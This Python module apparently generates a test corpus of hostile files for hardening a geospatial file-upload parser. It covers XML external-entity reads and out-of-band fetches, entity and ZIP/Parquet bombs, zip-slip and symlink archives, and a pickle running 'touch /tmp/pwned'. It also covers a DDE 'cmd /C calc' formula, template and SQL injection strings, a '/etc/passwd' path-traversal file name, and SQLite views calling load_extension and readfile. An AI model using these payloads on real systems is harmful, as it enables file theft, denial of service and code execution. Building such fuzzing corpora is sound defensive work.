"""Files that mean harm, in groups: what each tries, its name and bytes.

They are made for a canary file that nobody may read, and the address of a listener that nobody may call.
"""

from __future__ import annotations

import io
import json
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
from shapely import Point

POINTS = gpd.GeoDataFrame(
    {"id": ["a", "b", "c"], "date": ["2023-09-24"] * 3},
    geometry=[Point(20.78, 42.97), Point(20.8, 43.1), Point(20.9, 42.9)],
    crs="EPSG:4326",
)
TEMPLATE = "{{ 7*7 }}{% include '/etc/passwd' %}<script>alert(1)</script>${7*7}"
Made = tuple[str, bytes]


def pretenders(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{canary}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()
    remote = vrt.replace(str(canary).encode(), f"/vsicurl/{address}/x.csv".encode())
    pixels = (
        f'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand subClass="VRTDerivedRasterBand">'
        f"<PixelFunctionLanguage>Python</PixelFunctionLanguage><SourceFilename>{canary}</SourceFilename>"
        "</VRTRasterBand></VRTDataset>"
    ).encode()
    pipeline = json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {canary} ! write x"}
    ).encode()
    wfs = f"<OGRWFSDataSource><URL>{address}</URL></OGRWFSDataSource>".encode()
    workbook = _workbook()
    return {
        **{
            f"VRT named {end}": (f"x.{end}", vrt)
            for end in ("vrt", "csv", "gpkg", "kml", "geojson", "shp", "gpx")
        },
        "VRT with a comment before it": ("x.gpx", b"<?xml version='1.0'?><!-- <gpx> -->" + vrt),
        "VRT of the network": ("x.csv", remote),
        "VRT with Python": ("x.vrt", pixels),
        "GDALG": ("x.gdalg.json", pipeline),
        "GDALG named geojson": ("x.geojson", pipeline),
        "WFS": ("x.kml", wfs),
        "connection text": ("x.csv", f"MVT:{address}".encode()),
        "workbook named csv": ("x.csv", workbook),
        **{
            f"CSV named {end}": (f"x.{end}", b"id,date\n1,2023-09-24\n")
            for end in ("xlsx", "gpkg", "parquet", "zip")
        },
        "program named csv": ("x.csv", b"\x7fELF" + bytes(range(256)) * 40),
        "pickle named parquet": ("x.parquet", b"\x80\x04\x95cos\nsystem\n(S'touch /tmp/pwned'\ntR."),
    }


def entities(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    def kml(declared: str, used: str) -> bytes:
        return (
            f'<?xml version="1.0"?>\n<!DOCTYPE kml [{declared}]>\n<kml><Placemark><name>{used}</name>'
            "<Point><coordinates>20.7,42.9</coordinates></Point></Placemark></kml>"
        ).encode()

    laughs = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12)
    )
    quadratic = f'<!ENTITY a "{"x" * 50_000}">'
    gpx = kml(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;").replace(b"kml", b"gpx")
    padding = f"<!--{'x' * 10_000}-->"
    sheet = _workbook(
        {
            "xl/sharedStrings.xml": (
                f'<?xml version="1.0"?>{padding}<!DOCTYPE sst [<!ENTITY a SYSTEM "file://{canary}">]>'
                '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&a;</t></si></sst>'
            )
        }
    )
    include = (
        '<kml xmlns:xi="http://www.w3.org/2001/XInclude"><Placemark><name><xi:include parse="text" '
        f'href="file://{canary}"/></name><Point><coordinates>1,2</coordinates></Point></Placemark></kml>'
    ).encode()
    return {
        "external entity": ("x.kml", kml(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;")),
        "external entity of the network": ("x.kml", kml(f'<!ENTITY a SYSTEM "{address}/a">', "&a;")),
        "parameter entity": ("x.kml", kml(f'<!ENTITY % a SYSTEM "{address}/a.dtd"> %a;', "x")),
        "external document type": ("x.kml", f'<!DOCTYPE kml SYSTEM "{address}/a.dtd"><kml/>'.encode()),
        "external entity in UTF-16": (
            "x.kml",
            kml(f'<!ENTITY a SYSTEM "file://{canary}">', "&a;").decode().encode("utf-16"),
        ),
        "entity bomb": ("x.kml", kml(laughs, "&m;")),
        "long entity, often": ("x.kml", kml(quadratic, "&a;" * 50_000)),
        "entity bomb in GPX": ("x.gpx", kml(laughs, "&m;").replace(b"kml", b"gpx")),
        "external entity in GPX": ("x.gpx", gpx),
        "external entity in a workbook": ("x.xlsx", sheet),
        "XInclude": ("x.kml", include),
        "schema of the network": ("x.gpx", _gpx_with_schema(address)),
    }


def archives(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    parts = _shapefile(scratch)
    outside = {f"../../../..{canary.parent}/{name}": content for name, content in parts.items()}
    linked = dict(parts)
    symlink = zipfile.ZipInfo("layer.dbf")
    symlink.create_system, symlink.external_attr = 3, 0o120777 << 16
    linked.pop("layer.dbf")
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        f' Target="file://{canary}" TargetMode="External"/></Relationships>'
    )
    return {
        "paths that lead out": ("x.zip", _zip(outside)),
        "absolute paths": ("x.zip", _zip({str(canary): b"overwritten", "layer.shp": parts["layer.shp"]})),
        "a path with backslashes": ("x.zip", _zip({"..\\..\\layer.csv": b"id\n1\n"})),
        "a link in a ZIP": ("x.zip", _zip(linked, {symlink: str(canary).encode()})),
        "a link as the only member": ("x.zip", _zip({}, {symlink: str(canary).encode()})),
        "KML outside its KMZ": ("x.kmz", _zip({"../doc.kml": b"<kml/>"})),
        "a workbook whose sheet is elsewhere": ("x.xlsx", _workbook({"xl/_rels/workbook.xml.rels": rels})),
        "an archive in an archive": ("x.zip", _zip({"inner.zip": _zip({"a.csv": b"id\n1\n"})})),
        "an empty archive": ("x.zip", _zip({})),
        "half an archive": ("x.zip", _zip(parts)[:-40]),
        "a shapefile without its table": ("x.zip", _zip({"layer.shp": parts["layer.shp"]})),
        "a VRT as shapefile": ("x.zip", _zip({**parts, "layer.shp": b"<OGRVRTDataSource/>"})),
        "a projection that names a file": (
            "x.zip",
            _zip({**parts, "layer.prj": _grid(canary).encode()}),
        ),
        "a projection of the network": ("x.zip", _zip({**parts, "layer.prj": f"{address}/x.prj".encode()})),
        "an encoding that is a path": ("x.zip", _zip({**parts, "layer.cpg": str(canary).encode()})),
    }


def bombs(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    zeros = bytes(60_000_000)
    many = _zip({f"{n}.csv": b"" for n in range(20_000)})
    text = pa.DictionaryArray.from_arrays(pa.array(np.zeros(200_000, np.int32)), pa.array(["x" * 900_000]))
    rows = pa.array(np.zeros(30_000_000, np.int8))
    return {
        "ZIP bomb": ("x.zip", _zip({"a.csv": zeros})),
        "ZIP bomb that lies": ("x.zip", _lying(_zip({"a.csv": zeros}), len(zeros), 100)),
        "overlapping members": ("x.zip", _overlapping()),
        "too many members": ("x.zip", many),
        "XLSX bomb": ("x.xlsx", _workbook({"xl/sharedStrings.xml": b"<sst>" + zeros})),
        "XLSX bomb in a picture": ("x.xlsx", _workbook({"xl/media/a.png": zeros})),
        "KMZ bomb": ("x.kmz", _zip({"doc.kml": b"<kml>" + zeros})),
        "Parquet bomb of one text": ("x.parquet", _parquet(pa.table({"a": text}))),
        "Parquet bomb of rows": ("x.parquet", _parquet(pa.table({"a": rows}))),
        "gzip bomb": ("x.csv.gz", zlib.compress(zeros, 9, 31)),
        "a cell without end": ("x.csv", b"id,date\n1," + b"x" * 30_000_000),
        "a quotation without end": ("x.csv", b'id,date\n1,"' + b"x\n" * 10_000_000),
        "a line without end": ("x.csv", b"x" * 50_000_000),
        "a million columns": ("x.csv", b",".join(b"%d" % n for n in range(1_000_000)) + b"\n1\n"),
        "a million keys": ("x.json", json.dumps([{str(n): n for n in range(1_000_000)}]).encode()),
        "every line opens a quotation": ("x.csv", b"id,date\n" + b'1,"x\n' * 500_000),
        "only delimiters": ("x.csv", b"," * 20_000_000),
        "a workbook of one far cell": ("x.xlsx", _far_cell()),
        "an endless number": ("x.json", b'[{"id": ' + b"9" * 2_000_000 + b"}]"),
    }


def deep(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    shape = b'{"type":"GeometryCollection","geometries":[' * 400 + b"]}" * 400
    feature = b'{"type":"Feature","properties":{},"geometry":' + shape + b"}"
    return {
        "deep lists": ("x.json", b"[" * 5_000_000),
        "deep lists, closed": ("x.json", b"[" * 100_000 + b"]" * 100_000),
        "deep objects": ("x.geojson", b'{"type":' * 500_000),
        "a deep cell": ("x.json", b'[{"a":' + b"[" * 700 + b"]" * 700 + b"}]"),
        "deep shapes": ("x.geojson", b'{"type":"FeatureCollection","features":[' + feature + b"]}"),
        "deep folders": ("x.kml", b"<kml>" + b"<Folder>" * 200_000),
        "deep GPX": ("x.gpx", b"<gpx>" + b"<a>" * 200_000),
        "deep multigeometry": (
            "x.kml",
            b"<kml><Placemark>"
            + b"<MultiGeometry>" * 5000
            + b"</MultiGeometry>" * 5000
            + b"</Placemark></kml>",
        ),
    }


def broken(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    fgb, gpkg, shp = _written(scratch, "FlatGeobuf"), _written(scratch, "GPKG"), _zip(_shapefile(scratch))
    parquet = _geoparquet()
    huge_polygon = struct.pack("<BII", 1, 3, 0xFFFFFFF0)
    parts = _shapefile(scratch)
    dbf = bytearray(parts["layer.dbf"])
    dbf[4:12] = struct.pack("<IHH", 0x7FFFFFFF, 0xFFFF, 0xFFFF)
    found: dict[str, Made] = {
        "broken WKB": ("x.parquet", _geoparquet([b"\x01\x02", huge_polygon, b""])),
        "broken WKB in a GeoPackage": (
            "x.gpkg",
            _changed_gpkg(gpkg, scratch, b"GP\0\1\xe6\x10\0\0" + huge_polygon),
        ),
        "FlatGeobuf with a huge header": ("x.fgb", fgb[:8] + b"\xff\xff\xff\x7f" + fgb[12:]),
        "FlatGeobuf, cut": ("x.fgb", fgb[: len(fgb) // 2]),
        "Parquet with a huge footer": ("x.parquet", parquet[:-8] + b"\xff\xff\xff\x7f" + b"PAR1"),
        "Parquet of twelve bytes": ("x.parquet", b"PAR1\0\0\0\0PAR1"),
        "GeoPackage, cut": ("x.gpkg", gpkg[:5000]),
        "a table that claims two thousand million rows": ("x.zip", _zip({**parts, "layer.dbf": bytes(dbf)})),
        "a shapefile with endless offsets": (
            "x.zip",
            _zip({**parts, "layer.shx": parts["layer.shx"][:100] + b"\x7f\xff\xff\xf0" * 50}),
        ),
        "NUL bytes": ("x.csv", b"id,date\n1,\0\0\0\n"),
        "only NUL bytes": ("x.csv", bytes(100_000)),
        "NUL in JSON": ("x.json", b'[{"id": "a\\u0000b"}]'),
        "half characters": ("x.json", b'[{"id": "\\ud800", "\\udfff": 1}]'),
        "random bytes": ("x.csv", random.Random(7).randbytes(200_000)),  # noqa: S311 - no secret
        "numbers beyond all bounds": (
            "x.geojson",
            b'{"type":"Feature","properties":{},"geometry":{"type":"Point","coordinates":[1e999,-1e999]}}',
        ),
        "half a UTF-16 file": ("x.csv", "id,date\n1,2023".encode("utf-16")[:-1]),
    }
    for number, (name, content) in enumerate(
        [("x.fgb", fgb), ("x.gpkg", gpkg), ("x.zip", shp), ("x.parquet", parquet), ("x.xlsx", _workbook())]
    ):
        found[f"{name} with wrong bytes"] = (name, _with_wrong_bytes(content, number))
    return found


def links(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    def geojson(crs: object) -> bytes:
        features = [json.loads(POINTS.to_json())["features"][0]]
        return json.dumps({"type": "FeatureCollection", "crs": crs, "features": features}).encode()

    network = (
        f"<kml><Document><NetworkLink><Link><href>{address}/a.kml</href></Link></NetworkLink>"
        f"<Style id='s'><IconStyle><Icon><href>{address}/a.png</href></Icon></IconStyle></Style>"
        f"<GroundOverlay><Icon><href>file://{canary}</href></Icon></GroundOverlay>"
        "<Placemark><name>2023-09-24</name><styleUrl>#s</styleUrl><description><![CDATA["
        f'<img src="{address}/x.png">]]></description><Point><coordinates>20.7,42.9</coordinates></Point>'
        "</Placemark></Document></kml>"
    ).encode()
    return {
        "crs link": (
            "x.geojson",
            geojson({"type": "link", "properties": {"href": f"{address}/crs", "type": "proj4"}}),
        ),
        "crs that is an address": (
            "x.geojson",
            geojson({"type": "name", "properties": {"name": f"{address}/crs"}}),
        ),
        "crs that names a file": (
            "x.geojson",
            geojson({"type": "name", "properties": {"name": f"+proj=longlat +nadgrids={canary}"}}),
        ),
        "crs of a GeoParquet that names a file": ("x.parquet", _geoparquet(crs=_grid_json(canary))),
        "crs of a GeoParquet that is an address": ("x.parquet", _geoparquet(crs=f"{address}/crs")),
        "KML network link": ("x.kml", network),
        "KMZ network link": ("x.kmz", _zip({"doc.kml": network})),
        "GPX link": (
            "x.gpx",
            f'<gpx version="1.1" xmlns="http://www.topografix.com/GPX/1/1"><wpt lat="42.9" lon="20.7">'
            f'<name>a</name><link href="{address}"/></wpt></gpx>'.encode(),
        ),
        "addresses in cells": (
            "x.csv",
            f"id,date,lat,lon,url\n1,2023-09-24,42.9,20.7,{address}/x\n".encode(),
        ),
    }


def texts(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    quoted = '"' + TEMPLATE.replace('"', '""') + '"'
    cells = f"id,date,lat,lon,{quoted}\n{quoted},2023-09-24,42.9,20.7,{quoted}\n".encode()
    book = openpyxl.Workbook()
    book.active.title = "{{7x7}}"
    book.active.append(["id", TEMPLATE])
    book.active.append([TEMPLATE, "=cmd|' /C calc'!A0"])
    stream = io.BytesIO()
    book.save(stream)
    return {
        "template text in cells": ("x.csv", cells),
        "template text in the file's name": ("{{ 7*7 }}.csv", cells),
        "control characters in the file's name": ("x\x1b[31m\n\0.csv", b"a,a\n"),
        "a path as the file's name": ("../../../../etc/passwd", b"a,a\n"),
        "template text in a sheet": ("x.xlsx", stream.getvalue()),
        "columns named like ours": ("x.csv", b"row,geometry,index,level_0,extra\n1,POINT(1 2),3,4,5\n"),
        "prototype keys": ("x.json", b'[{"__proto__": {"a": 1}, "constructor": 2, "id": 3}]'),
        "terminal codes in cells": ("x.csv", b"id,date\n1,\x1b]0;owned\x07\n"),
    }


def databases(canary: Path, address: str, scratch: Path) -> dict[str, Made]:
    gpkg = _written(scratch, "GPKG")
    endless = (
        "CREATE VIEW layer_v AS WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
        "SELECT x AS fid, x AS id FROM n"
    )
    extension = f"CREATE VIEW layer_v AS SELECT 1 AS fid, load_extension('{canary}') AS id"
    reading = f"CREATE VIEW layer_v AS SELECT 1 AS fid, readfile('{canary}') AS id"
    opening = (
        f"CREATE VIEW layer_v AS SELECT 1 AS fid, gdal_get_pixel_value('{canary}', 1, 'pixel', 0, 0) AS id"
    )
    virtual = f"CREATE VIRTUAL TABLE layer_v USING VirtualOGR('{canary}')"

    def with_layer(statement: str) -> bytes:
        def change(database: sqlite3.Connection) -> None:
            if "VIRTUAL" in statement:
                database.execute("PRAGMA writable_schema = ON")
                database.execute(
                    "INSERT INTO sqlite_master VALUES ('table', 'layer_v', 'layer_v', 0, ?)", (statement,)
                )
            else:
                database.execute(statement)
            database.execute("DELETE FROM gpkg_contents")
            columns = "(table_name, data_type, identifier)"
            values = "('layer_v', 'attributes', 'v')"
            database.execute(f"INSERT INTO gpkg_contents {columns} VALUES {values}")  # noqa: S608

        return _changed(gpkg, scratch, change)

    plain = scratch / "plain.sqlite"
    plain.unlink(missing_ok=True)
    database = sqlite3.connect(plain)
    database.execute("CREATE TABLE a (id)")
    database.commit()
    database.close()
    return {
        "a view without end": ("x.gpkg", with_layer(endless)),
        "a view that loads a library": ("x.gpkg", with_layer(extension)),
        "a view that reads a file": ("x.gpkg", with_layer(reading)),
        "a view that opens a file": ("x.gpkg", with_layer(opening)),
        "a table of another file": ("x.gpkg", with_layer(virtual)),
        "a database that is no GeoPackage": ("x.gpkg", plain.read_bytes()),
        "a layer with a template's name": (
            "x.gpkg",
            _changed(gpkg, scratch, _rename_to_a_template),
        ),
    }


def _zip(members: dict[str, bytes], more: dict[zipfile.ZipInfo, bytes] | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**members, **(more or {})}.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _lying(archive: bytes, size: int, said: int) -> bytes:
    """The same archive, saying everywhere that its member is small."""
    return archive.replace(struct.pack("<I", size), struct.pack("<I", said))


def _overlapping() -> bytes:
    """A thousand entries for the same packed bytes (after David Fifield, "A better zip bomb", 2019)."""
    archive = _zip({"a000.csv": bytes(900_000)})
    begin = archive.index(b"PK\x01\x02")
    entry, end = archive[begin:-22], archive[-22:]
    entries = b"".join(entry.replace(b"a000.csv", b"a%03d.csv" % n) for n in range(400))
    counts = struct.pack("<HHII", 400, 400, len(entries), begin)
    return archive[:begin] + entries + end[:8] + counts + b"\0\0"


def _workbook(changed: dict[str, str | bytes] | None = None) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["id", "date", "latitude", "longitude"])
    book.active.append(["a", "2023-09-24", 42.9, 20.7])
    stream = io.BytesIO()
    book.save(stream)
    with zipfile.ZipFile(stream) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    for name, content in (changed or {}).items():
        members[name] = content.encode() if isinstance(content, str) else content
    return _zip(members)


def _far_cell() -> bytes:
    cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c>'
        f"</row>{cell}</sheetData></worksheet>"
    )
    return _workbook({"xl/worksheets/sheet1.xml": sheet})


def _parquet(table: pa.Table) -> bytes:
    stream = io.BytesIO()
    pq.write_table(table, stream)
    return stream.getvalue()


def _geoparquet(shapes: list[bytes] | None = None, crs: object = None) -> bytes:
    cells = shapes or list(POINTS.geometry.to_wkb())
    column = {"encoding": "WKB", "geometry_types": [], **({"crs": crs} if crs is not None else {})}
    geo = {"version": "1.1.0", "primary_column": "geometry", "columns": {"geometry": column}}
    table = pa.table(
        {"id": ["a", "b", "c"], "date": ["2023-09-24"] * 3, "geometry": pa.array(cells, pa.binary())}
    )
    return _parquet(table.replace_schema_metadata({"geo": json.dumps(geo)}))


def _written(scratch: Path, driver: str) -> bytes:
    path = scratch / f"made-{driver.split(maxsplit=1)[0].lower()}.{'gpkg' if driver == 'GPKG' else 'fgb'}"
    path.unlink(missing_ok=True)
    POINTS.to_file(path, driver=driver, layer="layer")
    return path.read_bytes()


def _shapefile(scratch: Path) -> dict[str, bytes]:
    folder = scratch / "shapefile"
    folder.mkdir(exist_ok=True)
    POINTS.to_file(folder / "layer.shp", driver="ESRI Shapefile")
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


def _changed(content: bytes, scratch: Path, change: Callable[[sqlite3.Connection], None]) -> bytes:
    path = scratch / "changed.gpkg"
    path.write_bytes(content)
    database = sqlite3.connect(path)
    # The triggers of a GeoPackage call functions that SQLite alone lacks.
    for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        database.execute(f'DROP TRIGGER "{name}"')
    change(database)
    database.commit()
    database.close()
    return path.read_bytes()


def _rename_to_a_template(database: sqlite3.Connection) -> None:
    name = f"{TEMPLATE}'; DROP TABLE layer; --"
    database.execute("DROP TABLE IF EXISTS rtree_layer_geom")
    database.execute(f'ALTER TABLE layer RENAME TO "{name}"')
    for table in ("gpkg_contents", "gpkg_geometry_columns", "gpkg_ogr_contents"):
        database.execute(f"UPDATE {table} SET table_name = ?", (name,))  # noqa: S608 - names of ours
    database.execute("DELETE FROM gpkg_extensions")


def _changed_gpkg(content: bytes, scratch: Path, shape: bytes) -> bytes:
    return _changed(
        content, scratch, lambda database: database.execute("UPDATE layer SET geom = ?", (shape,)) and None
    )


def _grid(canary: Path) -> str:
    return (
        'BOUNDCRS[SOURCECRS[GEOGCRS["x",DATUM["x",ELLIPSOID["x",6378137,298.25]],CS[ellipsoidal,2],AXIS["lat",north],'
        'AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]]],TARGETCRS[GEOGCRS["W",DATUM["w",ELLIPSOID['
        '"w",6378137,298.257223563]],CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",'
        '0.0174532925199433]]],ABRIDGEDTRANSFORMATION["x",METHOD["NTv2",ID["EPSG",9615]],PARAMETERFILE['
        f'"Latitude and longitude difference file","{canary}"]]]'
    )


def _grid_json(canary: Path) -> object:
    import pyproj

    return pyproj.CRS.from_wkt(_grid(canary)).to_json_dict()


def _with_wrong_bytes(content: bytes, seed: int) -> bytes:
    rng, changed = random.Random(seed), bytearray(content)  # noqa: S311 - no secret
    for _ in range(max(8, len(changed) // 200)):
        changed[rng.randrange(12, len(changed) - 8)] = rng.randrange(256)
    return bytes(changed)


def _gpx_with_schema(address: str) -> bytes:
    instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    point = '<wpt lat="42.9" lon="20.7"><name>a</name></wpt>'
    return (
        f'<gpx version="1.1" {instance} xsi:schemaLocation="{address} {address}/a.xsd">{point}</gpx>'.encode()
    )


GROUPS = (pretenders, entities, archives, bombs, deep, broken, links, texts, databases)
